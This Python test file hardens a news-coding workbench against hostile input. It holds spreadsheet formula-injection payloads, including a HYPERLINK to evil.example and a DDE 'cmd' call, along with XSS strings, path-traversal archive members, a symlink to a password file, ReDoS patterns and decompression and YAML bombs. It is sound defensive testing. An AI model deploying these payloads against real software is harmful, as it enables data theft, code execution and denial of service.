"""Hostile inputs through load, export (CSV and XLSX), the card's HTML, REFI-QDA import and the command line.

Each value of ``HOSTILE`` is put where untrusted text enters the workbench: an article's title,
source, URL and text, a coder's name, a tag's name and a note. Whatever the stage, a user must
never get a cell a spreadsheet would evaluate, a CSV row split in two, markup that runs in the
card, a file outside the folder asked for, or a traceback from the command line.

Whole files and stores from elsewhere follow: a folder with a link out of it, a coder's store with a
view or a trigger, a forged store, a database with our table names and other columns, a codebook of
more codes than any tool writes, a note over the limit, an export that cannot replace one of its
files and a split pattern that backtracks; each is refused or reported, and nothing is changed.

Hostile files (made at run time by ``tests/hostile_files.py``) go through the readers: a PDF of 400
pages and an e-mail and a page with a paragraph of 30,000 source lines are read whole; front matter
with nested YAML aliases, nested 30,000 levels deep or over its limit, Markdown lines of markup
that never closes, a Word file and a web archive that expand a thousandfold, a PDF whose pages do,
and random bytes under each text extension are error rows naming the file while the folder's other
articles load; a damaged archive or PDF says what is wrong, with nothing printed around it, and a
full disk names the file it could not write. A codebook file gets the front matter's YAML limits:
no aliases, no deep nesting.
"""

from __future__ import annotations

import csv
import errno
import functools
import html.parser
import json
import pathlib
import random
import re
import sqlite3
import subprocess
import sys
import tempfile
import unicodedata
import warnings
import zipfile

import hostile_files
import openpyxl
import pandas as pd
import pytest

import workbench
from workbench import Codebook, export
from workbench.errors import CodebookError, ExportError, LoadError, StoreError
from workbench.export.cells import safe_text
from workbench.interchange import read_qdc, read_qdpx, write_qdpx
from workbench.readers import read_file
from workbench.readers._layout import join_lines
from workbench.readers._markdown import strip_markdown
from workbench.readers.text import MAX_FRONT_MATTER
from workbench.store import merge, migrations
from workbench.widgets import _html

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1,2)",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "control before": '\x01=HYPERLINK("http://evil.example")',
    "NUL before": "\x00+1+1",
    "escape before": "\x1b[2J=1+1",
    "spaces before": "   =1+1",
    "tab before": "\t=1+1",
    "CR before": "\r=1+1",
    "NBSP before": "\xa0=1+1",
    "zero-width before": "\u200b\u200c\u200d\u2060=1+1",
    "BOM before": "\ufeff@SUM(A1)",
    "bidi override before": "\u202e=1+1",
    "C1 control before": "\x85=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "small equals": "﹦1+1",
    "bare CR inside": "Breaking news\r=cmd|' /C calc'!A0",
    "LF inside": "Breaking news\n=cmd|' /C calc'!A0",
    "CRLF inside": "Breaking news\r\n@SUM(A1)",
    "quotes and commas": 'He said, "=1+1", twice',
    "script": "<script>alert(1)</script>",
    "event handler": '<img src=x onerror="alert(1)">',
    "attribute break-out": '" onmouseover="alert(1)',
    "lone surrogate": "\ud800=1+1",
}
VALUES = [pytest.param(value, id=name) for name, value in HOSTILE.items()]

INVISIBLE = {"Cc", "Cf", "Zs", "Zl", "Zp"}
"""Unicode categories a reader does not see: controls, format characters, spaces and separators."""


def live(cell: str) -> bool:
    """Return True when a spreadsheet could evaluate ``cell``: past invisible characters, it starts like a formula.

    Independent of the exporter's rule: any character of an invisible category is skipped, and
    the first visible one counts when Unicode compatibility folding makes it ``= + - @``. A
    number (``-0.5`` in a CSV file) is read as a number.
    """
    if cell.startswith("'") or _number(cell):
        return False
    visible = next((char for char in cell if unicodedata.category(char) not in INVISIBLE), "")
    return unicodedata.normalize("NFKC", visible)[:1] in ("=", "+", "-", "@")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def strings(value: str) -> str:
    """Return ``value`` as the workbench can hold it: a lone surrogate cannot be stored as text."""
    return value.encode("utf-8", "replace").decode("utf-8")


@functools.cache
def corpus_of(value: str) -> workbench.Corpus:
    """Return a two-article corpus whose title, source, URL and first sentence are ``value`` (read-only).

    An article that cannot be loaded (a lone surrogate is not Unicode text) is an error row.
    """
    text = f"{value} Iran warned Israel on Monday. France agreed."
    rows = [
        {"id": "h1", "title": value, "source": value, "url": value, "published": "2024-04-15", "text": text},
        {"id": "h2", "title": "Calm", "source": "Wire", "text": "The talks went on. Leaders met in Capri."},
    ]
    return quietly_load(pd.DataFrame(rows, dtype=object))


def quietly_load(source: pathlib.Path | pd.DataFrame) -> workbench.Corpus:
    """Load ``source`` without the warning that lists inputs not loaded (they are in ``corpus.errors``)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return workbench.load(source)


def store_of(corpus: workbench.Corpus, value: str) -> workbench.TagStore:
    """Return an in-memory store where a coder named ``value`` put a tag named ``value`` and a note ``value``."""
    value = strings(value)
    codebook = Codebook.from_dict({"name": "hostile", "tags": [{"name": value}, {"name": "escalation"}]})
    store = workbench.TagStore(memory=True, coder=value, codebook=codebook)
    first = corpus.sentences["sentence_id"].iloc[0]
    store.add(first, codebook.tags[0])
    store.set_note(first, value)
    store.coder = "ana"
    store.add(first, "escalation")
    return store


def files_under(root: pathlib.Path) -> set[pathlib.Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def assert_csv_safe(path: pathlib.Path, rows: int) -> None:
    """The CSV file has a header and ``rows`` rows, read with the csv module, and no cell that could run."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert len(read) == rows + 1, f"{path.name}: {len(read) - 1} rows read back, {rows} written"
    assert len({len(row) for row in read}) == 1, f"{path.name}: rows of different lengths"
    assert not [cell for row in read for cell in row if live(cell)], path.name


def assert_xlsx_safe(path: pathlib.Path, rows: dict[str, int]) -> None:
    """The workbook has a sheet per table with its rows, no formula cell and no text that could run."""
    book = openpyxl.load_workbook(path)
    for name, count in rows.items():
        sheet = book[name]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert sheet.max_row == count + 1, name
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
        assert not [cell.value for cell in cells if isinstance(cell.value, str) and live(cell.value)], name


@pytest.fixture(autouse=True)
def own_scratch_folder(tmp_path_factory, monkeypatch):
    """Point this test's temporary files at a folder of its own, so files of other processes never count."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path_factory.mktemp("scratch")))


def scratch_files() -> set[str]:
    return {path.name for path in pathlib.Path(tempfile.gettempdir()).glob("workbench-xlsx-*")}


def export_both(corpus: workbench.Corpus, store: workbench.TagStore, root: pathlib.Path) -> None:
    """Export ``corpus`` and ``store`` as CSV summaries, corpus tables and a workbook under ``root / 'out'``; check."""
    out = root / "out"
    before, scratch = files_under(root), scratch_files()
    summaries = export.summaries(corpus, store, out / "csv")
    files = json.loads(summaries[-1].read_text(encoding="utf-8"))["files"]
    for path in summaries[:-1]:
        assert_csv_safe(path, files[path.name]["rows"])
    for path in export.corpus_tables(corpus, out / "tables", bom=True):
        assert_csv_safe(path, len(getattr(corpus, path.stem)))
    workbook = export.summaries(corpus, store, out / "xlsx", format="xlsx")
    files = json.loads(workbook[-1].read_text(encoding="utf-8"))["files"]
    assert_xlsx_safe(workbook[0], {key.split(":")[1]: shape["rows"] for key, shape in files.items()})
    assert all(out in path.parents for path in files_under(root) - before)
    assert scratch_files() <= scratch


@pytest.mark.parametrize("value", VALUES)
def test_load_then_export_as_csv_and_xlsx(tmp_path, value):
    """Hardening items 1 and 2: no live formula and no split row, whatever the title, text, coder, tag or note."""
    corpus = corpus_of(value)
    with store_of(corpus, value) as store:
        export_both(corpus, store, tmp_path)


def test_every_invisible_character_before_a_formula_is_neutralised():
    """Hardening item 1: every control, format, space or separator character, and every look-alike of = + - @."""
    invisible = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in INVISIBLE]
    starts = [chr(code) for code in range(0x10000) if unicodedata.normalize("NFKC", chr(code))[:1] in "=+-@"]
    assert len(invisible) > 200 and len(starts) > 15
    cells = [prefix + start + "1" for prefix in [*invisible, "\u200b\xa0 "] for start in starts]
    assert not [cell for cell in map(safe_text, cells) if live(cell)]
    column = export.neutralise(pd.DataFrame({"cell": pd.Series(cells, dtype="object")}))["cell"]
    assert not [cell for cell in column.astype("string") if live(cell)]


class _Markup(html.parser.HTMLParser):
    """Collect the tags and attributes of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def markup(fragment: str) -> _Markup:
    parser = _Markup()
    parser.feed(fragment)
    parser.close()
    return parser


@pytest.mark.parametrize("value", VALUES)
def test_card_html_holds_only_the_card_markup(value):
    """The card escapes hostile titles, sentences, claims and highlight tooltips: only its own divs and spans."""
    corpus = corpus_of(value)
    value = strings(value)
    with store_of(corpus, value) as store:
        card = workbench.tagger(corpus, store=store)
        fragments = [card.card_html]
        card.close()
    highlighted = _html.highlight(value + " and more", [_html.Span(0, 4, "mention", value)])
    fragments.append(
        _html.card(heading=value, previous=value, current_html=highlighted, following=value, claims=[value])
    )
    for fragment in fragments:
        found = markup(fragment)
        assert found.tags <= {"div", "span"}, fragment
        assert found.attributes <= {"class", "title"}, fragment


@pytest.mark.parametrize("value", VALUES)
def test_refiqda_import_then_export(tmp_path, value):
    """A project whose source names, texts, code names and users are hostile imports, then exports safely."""
    corpus = corpus_of(value)
    with store_of(corpus, value) as store:
        project = read_qdpx(write_qdpx(corpus, store, tmp_path / "hostile.qdpx"))
    imported = workbench.load(pd.DataFrame({"title": project.sources["name"], "text": project.sources["text"]}))
    coder = project.codings["coder"].iloc[0]
    with workbench.TagStore(memory=True, coder=coder, codebook=project.codebook) as store:
        for row in project.codings.itertuples():
            store.coder = row.coder
            store.add(imported.sentences["sentence_id"].iloc[0], row.tag)
        export_both(imported, store, tmp_path)


@pytest.mark.parametrize(
    "member, path",
    [
        ("../../outside.txt", "internal://../../outside.txt"),
        ("/tmp/absolute.txt", "internal:///tmp/absolute.txt"),
        ("sources/a.txt", "file:///etc/passwd"),
    ],
)
def test_refiqda_import_writes_no_file(tmp_path, member, path):
    """A project with member names or source paths that point outside is read in memory, never extracted."""
    project = (
        '<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" name="p">'
        '<CodeBook><Codes><Code guid="C1" name="=cmd" isCodable="true"/></Codes></CodeBook>'
        f'<Sources><TextSource guid="S1" name="@source" plainTextPath="{path}"/></Sources></Project>'
    )
    archive_path = tmp_path / "in" / "p.qdpx"
    archive_path.parent.mkdir()
    with zipfile.ZipFile(archive_path, "w") as archive:
        archive.writestr("project.qde", project)
        archive.writestr(member, "=1+1 was in the file.")
    before = files_under(tmp_path)
    try:
        read = read_qdpx(archive_path)
    except LoadError as error:
        assert "p.qdpx" in str(error) or "@source" in str(error)
    else:
        assert read.codebook.tags == ["=cmd"]
    assert files_under(tmp_path) == before
    assert not pathlib.Path("/tmp/absolute.txt").exists()


# -- the command line, run as a real command ---------------------------------------------------------


def run(*args: str | pathlib.Path, cwd: pathlib.Path) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "workbench", *map(str, args)]
    return subprocess.run(command, capture_output=True, text=True, cwd=cwd, timeout=300)


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory) -> pathlib.Path:
    """A JSONL corpus with one article per hostile value, and a store where hostile coders tagged and noted it."""
    root = tmp_path_factory.mktemp("hostile")
    articles = [
        {
            "id": f"h{number}",
            "title": value,
            "source": value,
            "text": f"{value} Iran warned.",
        }
        for number, value in enumerate(HOSTILE.values())
    ]
    (root / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in articles), encoding="utf-8")
    corpus = quietly_load(root / "in.jsonl")
    with workbench.TagStore(root / "tags.sqlite", coder="ana") as store:
        for sentence, value in zip(corpus.sentences["sentence_id"], HOSTILE.values(), strict=False):
            store.coder = strings(value)
            store.add(sentence, "escalation")
            store.set_note(sentence, strings(value))
    return root


def test_cli_load_writes_safe_tables(hostile_inputs, tmp_path):
    """Hardening items 1, 2 and 15: ``workbench load`` on hostile articles, read back as a spreadsheet would."""
    result = run("load", hostile_inputs / "in.jsonl", "--out", tmp_path / "t", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    corpus = quietly_load(hostile_inputs / "in.jsonl")
    for name in export.CORPUS_TABLES:
        assert_csv_safe(tmp_path / "t" / f"{name}.csv", len(getattr(corpus, name)))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_cli_export_writes_safe_summaries(hostile_inputs, tmp_path, file_format):
    """Hardening items 1, 2 and 15: ``workbench export`` of hostile coders, notes and titles, as CSV and XLSX."""
    arguments = ["--store", hostile_inputs / "tags.sqlite", "--corpus", hostile_inputs / "in.jsonl"]
    result = run("export", *arguments, "--out", tmp_path / "o", "--format", file_format, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    files = json.loads((tmp_path / "o" / "manifest.json").read_text(encoding="utf-8"))["files"]
    if file_format == "csv":
        for name, shape in files.items():
            assert_csv_safe(tmp_path / "o" / name, shape["rows"])
    else:
        assert_xlsx_safe(tmp_path / "o" / "summaries.xlsx", {key.split(":")[1]: s["rows"] for key, s in files.items()})
    assert {path.parent for path in files_under(tmp_path)} == {tmp_path / "o"}


def damage(path: pathlib.Path) -> pathlib.Path:
    """Overwrite every page of an SQLite file but the first with garbage."""
    data = bytearray(path.read_bytes())
    page = int.from_bytes(data[16:18], "big")
    data[page:] = b"\xde\xad\xbe\xef" * ((len(data) - page) // 4)
    path.write_bytes(bytes(data))
    return path


def other_application_database(path: pathlib.Path) -> pathlib.Path:
    import sqlite3

    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        connection.execute("INSERT INTO invoices (total) VALUES (12.5)")
    connection.close()
    return path


def broken_json(path: pathlib.Path) -> pathlib.Path:
    path.write_text('{"title": "=1+1", "text": [', encoding="utf-8")
    return path


FAILURES = [
    pytest.param(
        lambda root: ["load", root / "missing\n=1+1.json", "--out", root / "t"], id="missing path with newline"
    ),
    pytest.param(lambda root: ["load", root / "in.jsonl", "--out", root / "in.jsonl"], id="out is a file"),
    pytest.param(
        lambda root: ["export", "--store", root / "in.jsonl", "--corpus", root / "in.jsonl", "--out", root / "o"],
        id="store is not SQLite",
    ),
    pytest.param(
        lambda root: ["export", "--store", damage(root / "tags.sqlite"), "--corpus", root / "in.jsonl", "--out", root],
        id="damaged store",
    ),
    pytest.param(
        lambda root: [
            "export",
            "--store",
            other_application_database(root / "other.db"),
            "--corpus",
            root / "in.jsonl",
            "--out",
            root / "o",
        ],
        id="another application's database",
    ),
    pytest.param(lambda root: ["load", broken_json(root / "broken.json"), "--out", root / "t"], id="broken JSON"),
]


@pytest.mark.parametrize("arguments", FAILURES)
def test_cli_failures_are_one_line_on_stderr(hostile_inputs, tmp_path, arguments):
    """Hardening item 15: every failure is one line on stderr and a non-zero exit, never a traceback.

    Nothing is written or changed in the folder (a wrong command line instead gets click's usage text).
    """
    root = tmp_path / "work"
    root.mkdir()
    for name in ("in.jsonl", "tags.sqlite"):
        (root / name).write_bytes((hostile_inputs / name).read_bytes())
    command = arguments(root)
    before = {path: path.read_bytes() for path in files_under(root)}
    result = run(*command, cwd=root)
    assert result.returncode != 0
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert {path: path.read_bytes() for path in files_under(root)} == before


# -- files, stores, codebooks, notes and patterns from elsewhere ------------------------------------


def test_a_link_out_of_the_loaded_folder_is_an_error_row_unless_links_are_followed(tmp_path):
    """A folder from elsewhere links to a private file: the file is not read unless the analyst opts in."""
    folder = tmp_path / "received"
    folder.mkdir()
    (folder / "a.txt").write_text("Iran warned Israel on Monday.", encoding="utf-8")
    private = tmp_path / "home" / "passwords.txt"
    private.parent.mkdir()
    private.write_text("The root password is swordfish.", encoding="utf-8")
    (folder / "notes.txt").symlink_to(private)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        refused = workbench.load(folder, ner=None)
        followed = workbench.load(folder, ner=None, follow_links=True)
    assert not refused.articles["text"].str.contains("swordfish").any()
    reason = refused.errors.set_index("path").loc[str(folder / "notes.txt"), "error"]
    assert "symbolic link" in reason and str(private) in reason and "follow_links=True" in reason
    assert followed.articles["text"].str.contains("swordfish").sum() == 1


def _real_store(path: pathlib.Path) -> pathlib.Path:
    """Make a tag store at ``path`` where ana tagged one sentence; return its path."""
    with workbench.TagStore(path, coder="ana") as store:
        store.add("s1", "escalation")
    return path


ENDLESS_HISTORY = """CREATE VIEW history AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5000)
    SELECT i AS change_id, '2024-04-15' AS at, 'ana' AS coder, 'add' AS action, 's' || i AS sentence_id,
    'escalation' AS tag, NULL AS note, NULL AS previous, NULL AS undoes, NULL AS batch, NULL AS codebook FROM n"""
"""A recursive view in place of the history (bounded here, so that a merge that reads it ends and is seen)."""


@pytest.mark.parametrize(
    "change, named",
    [
        (["DROP TABLE history", ENDLESS_HISTORY], "'history' is a view"),
        (["CREATE VIEW extra AS SELECT 1"], "a view 'extra'"),
        (
            ["CREATE TRIGGER spy AFTER INSERT ON tags BEGIN INSERT INTO notes VALUES ('s', 'x', 'x', 'x'); END"],
            "a trigger 'spy'",
        ),
    ],
    ids=["recursive view as history", "extra view", "trigger of its own"],
)
def test_a_coders_store_with_a_view_or_a_trigger_is_refused_by_merge(tmp_path, change, named):
    """What merge reads must be real tables; the error names the incoming file and the team store is not made."""
    incoming = _real_store(tmp_path / "ana.sqlite")
    raw = sqlite3.connect(incoming, isolation_level=None)
    for statement in change:
        raw.execute(statement)
    raw.close()
    with pytest.raises(StoreError, match="not a workbench tag store") as refused:
        merge([incoming], tmp_path / "team.sqlite")
    assert str(incoming) in str(refused.value) and named in str(refused.value)
    assert not (tmp_path / "team.sqlite").exists()


def test_a_forged_store_is_refused_by_its_own_name_before_the_team_store_is_written(tmp_path):
    """Our application id and none of our tables: the command line blames that file, and makes no team store."""
    _real_store(tmp_path / "ana.sqlite")
    raw = sqlite3.connect(tmp_path / "forged.sqlite", isolation_level=None)
    raw.execute(f"PRAGMA application_id = {migrations.APPLICATION_ID}")
    raw.execute(f"PRAGMA user_version = {migrations.LATEST}")
    raw.execute("CREATE TABLE payload (x)")
    raw.close()
    result = run("merge", "ana.sqlite", "forged.sqlite", "--out", "team.sqlite", cwd=tmp_path)
    assert result.returncode == 1
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "'forged.sqlite'" in result.stderr and "not a workbench tag store" in result.stderr
    assert "team.sqlite" not in result.stderr
    assert not (tmp_path / "team.sqlite").exists()


@pytest.mark.parametrize("marked", [True, False], ids=["our application id", "a schema version only"])
def test_a_database_with_our_table_names_and_other_columns_is_left_byte_for_byte(tmp_path, marked):
    """Refused as not a store before any pragma that changes the file: no WAL switch, no -wal file."""
    path = tmp_path / "lookalike.sqlite"
    raw = sqlite3.connect(path, isolation_level=None)
    for table in ("tags", "notes", "history"):
        raw.execute(f"CREATE TABLE {table} (id INTEGER PRIMARY KEY, body TEXT)")
    raw.execute(f"PRAGMA user_version = {migrations.LATEST}")
    raw.execute(f"PRAGMA application_id = {migrations.APPLICATION_ID if marked else 0}")
    raw.close()
    original = path.read_bytes()
    with pytest.raises(StoreError, match=r"it is not a workbench tag store.*lacks the column"):
        workbench.TagStore(path)
    assert path.read_bytes() == original
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lookalike.sqlite"]


def test_the_split_pattern_runs_in_linear_time_and_refuses_what_re2_lacks(tmp_path):
    """``^(a+)+$`` on a line of 40 a's and a ``!`` would backtrack 2**40 times; RE2 reads it once."""
    path = tmp_path / "digest.txt"
    path.write_text("a" * 40 + "!\nIran warned Israel on Monday.\n", encoding="utf-8")
    corpus = workbench.load(path, ner=None, split=r"^(a+)+$")
    assert len(corpus.articles) == 1
    with pytest.raises(LoadError, match=r"not a regular expression RE2 can run .*no backreferences"):
        workbench.load(path, ner=None, split=r"^(=+)\1$")


def test_a_note_just_over_the_limit_is_refused_with_the_limit_in_the_message(tmp_path):
    """A note the size of a pasted file gives the limit and what to do, not SQLite's 'string or blob too big'."""
    with workbench.TagStore(tmp_path / "tags.sqlite", coder="ana") as store:
        with pytest.raises(StoreError, match=r"more than a note may hold \(32,767 characters"):
            store.set_note("s1", "=1+1 " * (workbench.store.MAX_NOTE_CHARS // 5 + 1))
        assert store.notes().empty and store.history().empty


def test_a_codebook_of_more_codes_than_any_tool_writes_is_refused_while_it_is_parsed(tmp_path):
    """One code past the limit: a codebook error naming the file, from a parse that stops there."""
    codes = "".join(f'<Code guid="G{i}" name="code {i}" isCodable="true"/>' for i in range(10_001))
    path = tmp_path / "huge.qdc"
    path.write_text(f'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>{codes}</Codes></CodeBook>', encoding="utf-8")
    with pytest.raises(CodebookError, match=rf"'{path}' holds more than 10,000 codes"):
        read_qdc(path)


def test_an_export_that_cannot_replace_one_file_leaves_the_old_set_whole(tmp_path):
    """A folder where a summary goes: the error names it, and every file, the manifest too, is the old one."""
    corpus = corpus_of("Calm")
    with store_of(corpus, "ana") as store:
        old = {path: path.read_bytes() for path in export.summaries(corpus, None, tmp_path / "out")}
        blocked = tmp_path / "out" / "tag_summary.csv"
        blocked.unlink()
        blocked.mkdir()
        del old[blocked]
        with pytest.raises(ExportError, match=r"'tag_summary.csv' in .* is a folder.*nothing was changed"):
            export.summaries(corpus, store, tmp_path / "out", overwrite=True)
    assert {path: path.read_bytes() for path in old} == old
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == sorted([blocked.name, *(p.name for p in old)])


# -- readers: files that cost time or memory, binary bytes, messages that say what is wrong ---------


def beside_a_good_article(path: pathlib.Path) -> tuple[workbench.Corpus, list[str]]:
    """Load the folder of ``path`` with one ordinary article in it; return the corpus and ``path``'s error rows."""
    (path.parent / "note.txt").write_text("Talks resumed on Monday in the harbour town.", encoding="utf-8")
    corpus = quietly_load(path.parent)
    assert "Talks resumed on Monday in the harbour town." in corpus.articles["text"].tolist()
    return corpus, corpus.errors.loc[corpus.errors["path"] == str(path), "error"].tolist()


def folder_in(tmp_path: pathlib.Path) -> pathlib.Path:
    folder = tmp_path / "in"
    folder.mkdir()
    return folder


def joined_by_searching_the_text(lines: list[str], keep: frozenset[str]) -> str:
    """The joining rule stated directly: after each line, look at the end of all the text joined so far."""
    joined = ""
    for line in (raw.strip() for raw in lines):
        if not line:
            continue
        broken = re.search(r"([^\W\d_]+)[-\u00ad]$", joined)
        following = re.match(r"[^\W\d_]+", line)
        if broken is None or following is None:
            joined = f"{joined} {line}" if joined else line
        elif joined.endswith("\u00ad") or (
            following.group()[0].islower() and f"{broken.group(1)}-{following.group()}".lower() not in keep
        ):
            joined = joined[:-1] + line
        else:
            joined += line
    return joined


def test_lines_are_joined_as_the_rule_says_on_many_small_paragraphs():
    """Hyphens at line ends, soft hyphens, words glued over several lines, digits and kept compounds."""
    pieces = ["nego", "tia", "-", "\u00ad", " ", "Franco", "long", "1", "_", "É", "ß", "x-", "ab-", "word."]
    chooser = random.Random(11)
    for _ in range(20_000):
        lines = ["".join(chooser.choices(pieces, k=chooser.randint(0, 4))) for _ in range(chooser.randint(0, 7))]
        keep = frozenset(chooser.sample(["nego-tia", "long-word", "ab-nego", "x-ab", "tia-long"], k=2))
        assert join_lines(lines, keep=keep) == joined_by_searching_the_text(lines, keep), lines


def test_a_paragraph_of_three_hundred_thousand_lines_is_joined():
    lines = hostile_files.prose_lines(300_000)
    joined = join_lines(lines)
    assert joined.startswith(lines[0]) and joined.endswith(lines[-1])
    assert len(joined.split()) > 2_000_000


@pytest.mark.parametrize("make", [hostile_files.long_email, hostile_files.long_html], ids=["e-mail", "web page"])
def test_a_paragraph_of_thirty_thousand_source_lines_is_read_as_one(tmp_path, make):
    path = make(tmp_path)
    (record,) = read_file(path, columns={}).records
    assert "\n" not in record["text"]
    assert record["text"].startswith(hostile_files.prose_lines(1)[0])
    assert len(record["text"]) > 1_300_000


def test_a_pdf_of_four_hundred_pages_is_read(tmp_path):
    path = hostile_files.long_pdf(tmp_path, pages=400)
    (record,) = read_file(path, columns={}).records
    lines = hostile_files.prose_lines(400 * 52)
    assert lines[0] in record["text"] and lines[-1] in record["text"]


@pytest.mark.parametrize("opener", ["[a", "![a", "[a](b", "**a ", "~~a ", "<a", "<http:a"])
def test_a_markdown_line_of_markup_that_never_closes_is_read_whole(tmp_path, opener):
    path = tmp_path / "unclosed.md"
    path.write_text("Talks resumed. " + opener * (200_000 // len(opener)) + "\n", encoding="utf-8")
    (record,) = read_file(path, columns={}).records
    assert record["text"].startswith("Talks resumed. ") and len(record["text"]) > 190_000


def test_a_markdown_heading_of_a_million_spaces_is_read():
    assert strip_markdown("# Talks" + " " * 1_000_000 + "resumed ##") == "\nTalks" + " " * 1_000_000 + "resumed\n"


@pytest.mark.parametrize("suffix", [".md", ".txt"])
def test_front_matter_with_nested_aliases_is_an_error_row(tmp_path, suffix):
    path = hostile_files.yaml_alias_bomb(folder_in(tmp_path), levels=9, suffix=suffix)
    corpus, errors = beside_a_good_article(path)
    assert len(corpus.articles) == 1
    assert len(errors) == 1 and "YAML alias (*a)" in errors[0], errors


def test_front_matter_nested_thirty_thousand_levels_deep_is_an_error_row(tmp_path):
    path = hostile_files.yaml_nesting(folder_in(tmp_path))
    _, errors = beside_a_good_article(path)
    assert len(errors) == 1 and "nests lists or mappings more than" in errors[0], errors


def test_front_matter_over_the_limit_is_an_error_row(tmp_path):
    fields = "".join(f"tag{number}: harbour\n" for number in range(MAX_FRONT_MATTER // 10))
    path = folder_in(tmp_path) / "fields.md"
    path.write_text(f"---\ntitle: Talks\n{fields}---\nThe talks resumed.\n", encoding="utf-8")
    _, errors = beside_a_good_article(path)
    assert len(errors) == 1 and f"over the limit of {MAX_FRONT_MATTER:,}" in errors[0], errors


@pytest.mark.parametrize(
    "unpacked, what", [(300_000_000, "bytes in all"), (9_000_000, "bytes of markup")], ids=["pictures", "markup"]
)
def test_a_word_file_that_expands_past_the_limit_is_refused_unread(tmp_path, unpacked, what):
    path = hostile_files.docx_bomb(folder_in(tmp_path), unpacked=unpacked)
    assert path.stat().st_size < 5_000_000
    _, errors = beside_a_good_article(path)
    assert len(errors) == 1 and what in errors[0] and "nothing was unpacked" in errors[0], errors


def test_a_pdf_whose_pages_expand_a_thousandfold_is_refused_before_they_are_parsed(tmp_path):
    path = hostile_files.pdf_content_bomb(folder_in(tmp_path), pages=3, unpacked=20_000_000)
    assert path.stat().st_size < 200_000
    _, errors = beside_a_good_article(path)
    assert len(errors) == 1 and "drawing instructions of pages 1 to 1 expand to" in errors[0], errors


def test_a_web_archive_whose_page_expands_a_thousandfold_is_stopped(tmp_path):
    path = hostile_files.warc_gzip_bomb(folder_in(tmp_path), unpacked=300_000_000)
    assert path.stat().st_size < 1_000_000
    corpus, errors = beside_a_good_article(path)
    assert len(corpus.articles) == 1
    assert any("the page is over the limit" in error for error in errors), errors
    assert any("expands past" in error for error in errors), errors


@pytest.mark.parametrize("suffix", hostile_files.TEXT_SUFFIXES)
def test_random_bytes_under_a_text_extension_are_an_error_row(tmp_path, suffix):
    path = hostile_files.random_bytes(folder_in(tmp_path), suffix)
    corpus, errors = beside_a_good_article(path)
    assert len(corpus.articles) == 1
    assert errors, f"{suffix}: random bytes loaded as an article"


def test_bytes_that_read_as_no_text_encoding_are_an_error_row(tmp_path):
    """Random bytes without control bytes: no encoding reads them as words."""
    chooser = random.Random(5)
    path = folder_in(tmp_path) / "junk.txt"
    path.write_bytes(bytes(chooser.randrange(0x20, 0x100) for _ in range(50_000)))
    corpus, errors = beside_a_good_article(path)
    assert len(corpus.articles) == 1
    assert len(errors) == 1 and "looks binary" in errors[0], errors


def test_a_web_archive_cut_short_says_so_and_keeps_its_first_page(tmp_path):
    folder = folder_in(tmp_path)
    pages = [
        f"<html><head><title>Page {number}</title></head><body><p>The ferry talks went on for a {number} day.</p>"
        "</body></html>"
        for number in ("first", "second", "third")
    ]
    records = [hostile_files.warc_response(f"https://news.example/{n}", page) for n, page in enumerate(pages)]
    path = folder / "crawl.warc.gz"
    path.write_bytes(b"".join(records)[: -len(records[-1]) // 2])
    corpus, errors = beside_a_good_article(path)
    assert sorted(corpus.articles["title"]) == ["Note", "Page first", "Page second"]
    damage = [error for error in errors if "damaged" in error]
    assert len(damage) == 1 and "after record 2 (its gzip compression is broken or cut short" in damage[0], errors


def test_a_damaged_pdf_is_one_error_row_and_nothing_on_stderr(tmp_path):
    """In a process of its own, as in a notebook: no log line of pypdf's around the error row."""
    folder = folder_in(tmp_path)
    whole = hostile_files.long_pdf(tmp_path, pages=2).read_bytes()
    path = folder / "cut.pdf"
    path.write_bytes(whole[: len(whole) // 2])
    _, errors = beside_a_good_article(path)
    assert len(errors) == 1 and errors[0].startswith("not a readable PDF"), errors
    command = [sys.executable, "-W", "ignore", "-c", "import sys, workbench; workbench.load(sys.argv[1])", folder]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0 and result.stderr == ""


def test_a_full_disk_names_the_file_that_could_not_be_written(tmp_path, monkeypatch):
    corpus = quietly_load(pd.DataFrame({"title": ["Talks"], "text": ["Talks resumed on Monday."]}))

    def full_disk(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    with pytest.raises(OSError, match="No space left on device") as raised:
        export.corpus_tables(corpus, tmp_path / "tables")
